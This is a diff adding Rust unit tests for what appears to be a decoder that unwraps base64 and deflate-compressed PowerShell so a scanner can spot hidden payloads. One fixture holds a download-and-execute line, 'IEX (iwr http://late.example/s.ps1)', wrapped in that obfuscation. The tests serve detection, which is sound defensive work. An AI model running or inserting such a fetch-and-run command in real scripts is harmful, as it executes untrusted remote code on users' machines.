@@ -919,6 +919,18 @@ mod tests {
         gz.extend([0u8; 8]);
         let b = base64::engine::general_purpose::STANDARD.encode(&gz);
         assert!(decoded(&format!("FromBase64String('{b}') GzipStream")).contains("bad.example"));
+        // A long compressed script (past the first bytes looked at) is inflated whole ...
+        let script = format!("{}\nIEX (iwr http://late.example/s.ps1)", "Write-Output 'padding line';\n".repeat(40));
+        let b = base64::engine::general_purpose::STANDARD
+            .encode(miniz_oxide::deflate::compress_to_vec(script.as_bytes(), 6));
+        assert!(decoded(&format!("DeflateStream(FromBase64String('{b}'))")).contains("late.example"));
+        // ... a compressed program (an MZ header, then binary) is not text at all.
+        let mut pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
+        pe.extend((0..4000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
+        let b = base64::engine::general_purpose::STANDARD
+            .encode(miniz_oxide::deflate::compress_to_vec(&pe, 6));
+        assert_eq!(decoded(&format!("DeflateStream(FromBase64String('{b}'))")), "");
+        assert!(bytes_to_text(&pe).is_none());
     }
 
     #[test]
